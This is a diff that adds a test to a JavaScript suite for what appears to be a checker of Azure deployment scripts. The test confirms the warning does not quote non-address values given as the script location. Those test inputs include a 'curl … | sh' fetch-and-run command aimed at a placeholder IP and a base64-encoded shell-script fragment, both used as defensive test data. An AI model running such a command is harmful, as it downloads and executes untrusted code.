@@ -82,6 +82,17 @@ describe("a script that Azure fetches", () => {
     assert.doesNotMatch(message, /sig|c2VjcmV0/);
   });
 
+  it("is not quoted where it is no address, for it may be the script itself", () => {
+    for (const written of [
+      "IyEvYmluL3NoCnRhaWwgLW4rMyAkMHxn",
+      "curl 198.51.100.7 | sh",
+      "ftp://files.example.com/a.sh",
+    ])
+      assert.deepEqual(said(script, { primaryScriptUri: written }), [
+        "primaryScriptUri: the deployment script is fetched from elsewhere, so what it creates cannot be judged",
+      ]);
+  });
+
   it("passes with the line that the message offers", () => {
     const [message = ""] = said(script, { primaryScriptUri: elsewhere });
     const line = /- "(.*)"$/.exec(message)?.[1] ?? "";
